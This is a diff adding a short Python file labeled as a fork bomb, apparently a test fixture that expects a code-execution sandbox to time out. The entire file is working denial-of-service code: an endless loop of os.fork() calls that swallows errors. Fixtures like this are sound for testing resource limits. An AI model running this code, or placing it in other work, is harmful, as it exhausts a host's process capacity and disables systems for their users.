@@ -1,0 +1,9 @@
+# kind: fork bomb
+# wants: timeout timeout timeout
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
